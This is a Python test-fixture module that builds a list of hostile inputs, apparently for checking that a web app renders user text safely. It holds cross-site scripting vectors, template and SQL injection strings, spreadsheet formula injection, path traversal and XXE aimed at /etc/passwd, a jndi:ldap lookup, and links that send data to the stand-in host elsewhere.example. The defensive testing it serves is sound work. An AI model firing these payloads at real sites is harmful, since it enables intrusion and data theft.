"""Hostile texts. Each would set `canary`, or ask another host for something, if any page took it for more than text."""

from collections.abc import Iterator

HOST = "https://elsewhere.example"

_EVENTS = [
    ("img src=x", "onerror"), ("img src=x", "onload"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"), ("details open", "ontoggle"), ("video src=x", "onerror"),
    ("audio src=x", "onerror"), ("video", "onloadstart"), ("iframe", "onload"), ("object data=x", "onerror"),
    ("embed src=x", "onerror"), ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"),
    ("style", "onload"), ("marquee", "onstart"), ("div contenteditable autofocus", "onfocus"),
    ("a href=x autofocus", "onfocus"), ("form", "onformdata"), ("input", "onbeforeinput"),
    ("p style=animation-name:spin", "onanimationstart"), ("p style=transition:1s", "ontransitionend"),
    ("dialog open", "onclose"), ("meter", "onpointerenter"), ("td", "onmouseover"), ("h1", "onclick"),
    ("math", "onclick"), ("animate attributeName=x", "onbegin"), ("set attributeName=x", "onbegin"),
    ("source src=x", "onerror"), ("track src=x", "onerror"), ("image href=x", "onerror"),
    ("picture", "onload"), ("custom-element", "onfocusin"), ("slot", "onslotchange"), ("frameset", "onload"),
]  # fmt: skip
_BREAKERS = [
    '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</template>",
    "</noscript>", "</select>", "</option>", "</svg>", "</pre>", "</h1>", "</table>", '"/>', "\\\"", "\\'", "*/",
]  # fmt: skip
_SCRIPTS = [
    "<script>canary=1</script>",
    "<ScRiPt>canary=1</sCrIpT>",
    "<script/x>canary=1</script>",
    "<script\n>canary=1</script\n>",
    "<scr<script>ipt>canary=1</scr</script>ipt>",
    "<<script>canary=1//<</script>",
    '<script type="module">globalThis.canary=1</script>',
    f'<script src="{HOST}/x.js"></script>',
    f'<script type="importmap">{{"imports":{{"app/main":"{HOST}/x.js"}}}}</script>',
    '<script nonce="">canary=1</script>',
    "<svg><script>canary=1</script></svg>",
    f'<svg><script href="{HOST}/x.js"/></svg>',
    '<svg><a xlink:href="javascript:canary=1"><text>a</text></a></svg>',
    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:canary=1"/></svg>',
    f'<svg><use href="{HOST}/x.svg#y"/></svg>',
    f'<svg><image href="{HOST}/x.png"/></svg>',
    f'<svg><foreignObject><iframe src="{HOST}"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="canary=1">',
    '<math href="javascript:canary=1">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=canary=1>">',
    '<template><img src=x onerror="canary=1"></template>',
    '<iframe srcdoc="<script>parent.canary=1</script>"></iframe>',
    f'<iframe src="{HOST}"></iframe>',
    '<iframe src="javascript:parent.canary=1"></iframe>',
    f'<object data="{HOST}/x"></object>',
    f'<embed src="{HOST}/x">',
    f'<base href="{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url={HOST}">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    f'<link rel="stylesheet" href="{HOST}/x.css">',
    f'<link rel="preload" as="script" href="{HOST}/x.js">',
    f'<link rel="dns-prefetch" href="{HOST}">',
    f"<style>@import url({HOST}/x.css);</style>",
    f"<style>* {{ background: url({HOST}/x.png) }}</style>",
    "<style>body { display: none }</style>",
    f'<p style="background:url({HOST}/x.png)">',
    f'<form action="{HOST}"><button autofocus>Sign in</button></form>',
    f'<form id="prompt-form" action="{HOST}">',
    f'<button formaction="{HOST}" form="prompt-form">Save</button>',
    '<input name="csrfmiddlewaretoken" value="x">',
    '<input form="prompt-form" name="title" value="x">',
    '<a id="location" href="javascript:canary=1">x</a>',
    '<form name="document"><input name="cookie"></form>',
    '<img name="getElementById">',
    f'<img src="{HOST}/x.png">',
    f'<img srcset="{HOST}/x.png 1x">',
    f'<video poster="{HOST}/x.png"></video>',
    f'<a href="{HOST}" ping="{HOST}/ping">x</a>',
    f'<table background="{HOST}/x.png"><tr><td>',
    "<plaintext>",
    "<xmp><script>canary=1</script>",
    "<!--<script>canary=1</script>-->",
    "<!--[if IE]><script>canary=1</script><![endif]-->",
    "<![CDATA[<script>canary=1</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "&lt;script&gt;canary=1&lt;/script&gt;",
    "&#60;script&#62;canary=1&#60;/script&#62;",
    "%3Cscript%3Ecanary=1%3C/script%3E",
    "\\u003cscript\\u003ecanary=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ecanary=1\\x3c/script\\x3e",
    "+ADw-script+AD4-canary=1+ADw-/script+AD4-",
]
_ADDRESSES = [
    "javascript:canary=1",
    "JaVaScRiPt:canary=1",
    "java\tscript:canary=1",
    "javascript&colon;canary=1",
    "javascript://%0acanary=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>canary=1</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==",
    "blob:https://elsewhere.example/1",
    "//elsewhere.example/x",
    "\\\\elsewhere.example\\x",
    f"{HOST}/%0d%0aSet-Cookie:canary=1",
    "x\r\nSet-Cookie: canary=1\r\n\r\n<script>canary=1</script>",
]
_MARKDOWN = [
    f"![picture]({HOST}/x.png)",
    f"![picture]({HOST}/x.png?q={{{{secret}}}})",
    "[click](javascript:canary=1)",
    "[click](data:text/html,<script>canary=1</script>)",
    f'[click]({HOST} "onmouseover=canary=1")',
    f"<{HOST}>",
    "<javascript:canary=1>",
    f"[reference]: {HOST}/x.png",
    "![x][y]\n\n[y]: javascript:canary=1",
    "```html\n<script>canary=1</script>\n```",
    '# Heading {#id onclick="canary=1"}',
    f"| a |\n|---|\n| ![x]({HOST}/x.png) |",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{% include '/etc/passwd' %}",
    "{% autoescape off %}<script>canary=1</script>{% endautoescape %}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('canary=1')()}}",
    "{# comment #}{{ csrf_token }}",
    "${7*7}",
    "${canary=1}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<?php echo 49; ?>",
    "${jndi:ldap://elsewhere.example/x}",
    "`${canary=1}`",
    "{0.__class__}",
    "%(password)s %s %n",
    "$(canary=1) `id` ; id | id && id",
    "' OR '1'='1' --",
    "'; DROP TABLE prompts_prompt; --",
    '=HYPERLINK("https://elsewhere.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "../../../../etc/passwd",
    "%00%2e%2e%2f",
    "__proto__",
    "constructor",
    "toString",
    '{"__proto__": {"canary": 1}}',
    "undefined null NaN true",
]
_ISLANDS = [
    '<div hx-get="/accounts/logout/" hx-trigger="load"></div>',
    '<div hx-post="/accounts/logout/" hx-trigger="revealed"></div>',
    '<div hx-on::load="canary=1" hx-on:click="canary=1"></div>',
    f'<div hx-get="{HOST}" hx-trigger="load"></div>',
    '<div hx-vals="js:{a: canary=1}" hx-get="/" hx-trigger="load"></div>',
    '<div hx-swap-oob="true" id="flash">gone</div>',
    '<div data-island="prompts/../../evil"></div>',
    f'<div data-island="{HOST}/x"></div>',
    '<div data-island="evals/run-live" data-events="/accounts/logout/"></div>',
    '<body data-island="shortcuts"><a data-key="mod+s" href="javascript:canary=1">x</a>',
    '<div data-diagnostics>[{"field":"x"}]</div>',
    '<script type="application/json" data-diagnostics>[{}]</script>',
    "<div data-draft-conflict></div><div data-draft-state></div>",
    "event: done\ndata: {}\n\n",
    '\n\nevent: error\ndata: {"message": "<script>canary=1</script>"}\n\n',
    "data: [DONE]",
]
_UNICODE = [
    "\u202etxt.exe\u202c reversed",
    "\u2066\u2067\u2068isolated\u2069",
    "مرحبا <script>canary=1</script> بالعالم",
    'שלום " onclick="canary=1" עולם',
    "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "line\u2028separator\u2029paragraph",
    "\uff1cscript\uff1ecanary=1\uff1c/script\uff1e",
    "\u02b9\u02ba\u2039script\u203acanary=1",
    "Z\u0351\u036b\u0343a\u0335l\u0334g\u0336o\u0337" + "\u0301" * 40,
    "🏳️‍🌈👩‍👩‍👧‍👦🇬🇧" * 3,
    "𝕊𝕔𝕣𝕚𝕡𝕥 𓀀 \U0001f9ff",
    "ﷺ﷽" * 5,
    "İıſK ß ﬃ",
    "a\u00a0b\u2003c\u3000d",
    "\x1b[31mred\x1b[0m",
    "\x07bell\x08back\x7f",
    "tab\there",
    "e\u0301 é",
    "0\ufe0f\u20e3",
    "½⅓ ² ٣ ৪",
]


def _made() -> Iterator[str]:
    yield from _SCRIPTS
    for tag, event in _EVENTS:
        yield f"<{tag} {event}=canary=1>"
    for breaker in _BREAKERS:
        yield f"{breaker}<img src=x onerror=canary=1>"
        yield f"{breaker} autofocus onfocus=canary=1 x={breaker}"
    yield from _ADDRESSES
    yield from _MARKDOWN
    yield from _TEMPLATES
    yield from _ISLANDS
    yield from _UNICODE


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_made()))


def packed(limit: int) -> list[str]:
    """All payloads, as many as fit into each text of at most `limit` characters, on one line; longer ones are cut."""
    packs = [""]
    for payload in PAYLOADS:
        line = " ".join(payload.split())[:limit]
        if len(packs[-1]) + len(line) + 1 > limit:
            packs.append("")
        packs[-1] = f"{packs[-1]} {line}".strip()
    return packs
